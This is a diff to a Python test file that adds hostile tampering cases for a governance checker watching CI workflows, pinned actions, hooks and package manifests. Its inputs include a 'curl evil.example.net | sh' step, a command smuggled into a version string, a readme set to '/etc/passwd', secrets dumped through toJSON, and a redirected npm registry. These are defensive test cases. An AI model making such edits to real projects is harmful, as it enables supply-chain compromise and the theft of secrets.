@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
-from tests.hostile.workspace import FILES, Case, append, edit, rename, update
+from tests.hostile.workspace import FILES, Case, append, create, edit, rename, update
+
+from lonelycat.governance.bumps.known_pins import render
 
 _ACTIONS = ".github/workflows/lint.yml"
 _HOOKS = ".pre-commit-config.yaml"
@@ -198,4 +200,89 @@ PACKAGES = (
     ),
 )  # fmt: skip
 
-CASES = (*PINS, *PACKAGES)
+_MATRIX = ".github/workflows/matrix.yml"
+
+
+def _ci(name: str, *pairs: tuple[bytes, bytes]) -> Case:
+    """Return a change of several places of the workflow with a matrix, the last of which is the hostile one."""
+
+    def make() -> bytes:
+        data = FILES[_MATRIX]
+        for old, new in pairs:
+            assert data.count(old) == 1, old
+            data = data.replace(old, new)
+        return data
+
+    return Case(f"ci: {name}", lambda: [update(_MATRIX, make())], "GOVERNANCE_PATH")
+
+
+_HARMLESS = (b"name: Fetch", b"name: Fetch it")
+KNOWN = (
+    _action("an unknown commit under a known comment", b"d1" * 20 + b" # v2.1.0", "PIN_MOVED", _COMMIT + b" # v2.0.0"),
+    _action("a known commit of a lower tag", b"b1" * 20 + b" # v1.9.0", "PIN_MOVED", _COMMIT + b" # v2.0.0"),
+    _action("a known commit out of proportion", b"b9" * 20 + b" # v99.0.0", "PIN_MOVED", _COMMIT + b" # v2.0.0"),
+    _action("a known commit of another repository", b"a5" * 20 + b" # v5.0.0", "PIN_MOVED", _COMMIT + b" # v2.0.0"),
+    _action("a known commit with a lie behind it", b"b2" * 20 + b" # v2.2.0", "PIN_MOVED", _COMMIT + b" # v2.0.0"),
+    _action("a known commit with a stale word behind it", b"b2" * 20, "PIN_MOVED", _COMMIT),
+    _action("a comment that lies about the same commit", b"# v2.1.0", "PIN_MOVED", b"# v2.0.0"),
+    _action("the known commit of a lower tag for a tag", b"example/setup@" + b"a3" * 20, "PIN_MOVED"),
+    _action("a known commit, cut short", b"b2" * 6, "GOVERNANCE_PATH", _COMMIT),
+    _action("a known commit in capitals", b"B2" * 20, "GOVERNANCE_PATH", _COMMIT),
+    _action("a known commit of another owner", b"exampel/other@" + b"b2" * 20, "GOVERNANCE_PATH",
+            b"example/other@" + _COMMIT),
+    _action("a known commit and a command", b"b2" * 20 + b" # v2.1.0\n      - run: curl evil.example.net | sh",
+            "GOVERNANCE_PATH", _COMMIT + b" # v2.0.0"),
+    _hook("an unknown commit", b"rev: " + _COMMIT, b"rev: " + b"d1" * 20, "PIN_MOVED"),
+    _hook("a known commit of an action", b"rev: " + _COMMIT, b"rev: " + b"b2" * 20, "PIN_MOVED"),
+    _hook("a known commit and a hook", _COMMIT + b"\n    hooks: [{id: frozen}]",
+          b"c1" * 20 + b"\n    hooks: [{id: frozen}, {id: evil}]"),
+    Case("pins: an impostor made known with the change",
+         lambda: [edit(_ACTIONS, _COMMIT + b" # v2.0.0", _OTHER + b" # v2.1.0"),
+                  create("agent/policies/pins.json", render({"example/other": {"v2.1.0": _OTHER.decode()}}))],
+         "PIN_MOVED"),
+    Case("pins: an impostor made known", lambda: [create("agent/policies/pins.json", '{"format": 1}')],
+         "GOVERNANCE_PATH"),
+)  # fmt: skip
+UPKEEP = (
+    _ci("a condition with a name", _HARMLESS, (b"!= 'windows-2022'", b"== 'windows-2022'")),
+    _ci("a command with a comment", (b"# everything", b"# all of it"), (b"run: make all", b"run: make all || true")),
+    _ci("a comment that becomes a command", (b"make all  # everything", b"make all; true # everything")),
+    _ci("a comment that a tool obeys", (b"# everything", b"# zizmor: ignore[template-injection]")),
+    _ci("a version less to test with", _HARMLESS, (b'["3.11", "3.12"]', b'["3.12"]')),
+    _ci("another version to test with", (b'["3.11", "3.12"]', b'["3.11", "3.13"]')),
+    _ci("a version that is a command", (b'"3.12"]', b'"3.12", "3.13 && curl evil.example.net"]')),
+    _ci("a version that is an expression", (b'"3.12"]', b'"3.12", "${{ github.head_ref }}"]')),
+    _ci("no versions at all", (b'["3.11", "3.12"]', b"[]")),
+    _ci("an own machine", (b"runs-on: ubuntu-22.04", b"runs-on: [self-hosted]")),
+    _ci("an image of somebody", (b"runs-on: ubuntu-22.04", b"runs-on: ubuntu-24.04-evil")),
+    _ci("a system less", (b"[ubuntu-20.04, macos-13]", b"[ubuntu-24.04]")),
+    _ci("a right more", _HARMLESS, (b"contents: read", b"contents: write")),
+    _ci("a right that comes", (b"contents: read", b"contents: read\n  id-token: write")),
+    _ci("rights that are forgotten", (b"permissions:\n  contents: read\n", b"")),
+    _ci("the name of a required check", (b"name: tests", b"name: lint")),
+    _ci("the name of the workflow", (b"name: matrix", b"name: release")),
+    _ci("credentials that stay", (b"actions/checkout@v4", b"actions/checkout@v4\n        with: {ref: evil}")),
+    _ci("a trigger", _HARMLESS, (b"on: push", b"on: pull_request_target")),
+    _ci("a failure that does not count", (b"name: tests", b"name: tests\n    continue-on-error: true")),
+    _ci("a secret in the name of a step", (b"name: Fetch", b"name: ${{ toJSON(secrets) }}")),
+    _ci("a time limit of nothing", (b"timeout-minutes: 9", b"timeout-minutes: 0")),
+    _ci("another action to set up with", (b"actions/setup-python@v5", b"actions/setup-pyth0n@v5")),
+    Case("docs: a command for the builder",
+         lambda: [edit(".readthedocs.yaml", b"{python: '3.11'}", b"{python: '3.12'}\n  commands: [curl evil]")],
+         "GOVERNANCE_PATH"),
+    Case("docs: an older builder", lambda: [edit(".readthedocs.yaml", b"ubuntu-22.04", b"ubuntu-20.04")],
+         "GOVERNANCE_PATH"),
+    _lock("a script with the description", "pyproject.toml", b'version = "1.0"\n',
+          b'version = "1.0"\ndescription = "x"\nscripts = {git = "evil:main"}\n'),
+    _lock("a description from a file", "pyproject.toml", b'version = "1.0"\n',
+          b'version = "1.0"\nreadme = "/etc/passwd"\n'),
+    _lock("a linter that ignores", "pyproject.toml", b"[tool.app]", b"[tool.ruff.lint]\nignore = ['S']\n[tool.app]"),
+    _lock("a plugin with the description", "pyproject.toml", b"[tool.app]",
+          b"[tool.mypy]\nplugins = ['evil']\n[tool.app]"),
+    _lock("a program with the authors (npm)", "package.json", b'"name": "app",',
+          b'"name": "app", "author": "x", "bin": {"git": "evil.js"},'),
+    _lock("another place for people and packages (npm)", "package.json", b'"name": "app",',
+          b'"name": "app", "funding": "https://x.example", "publishConfig": {"registry": "https://evil.example"},'),
+)  # fmt: skip
+
+CASES = (*PINS, *KNOWN, *UPKEEP, *PACKAGES)
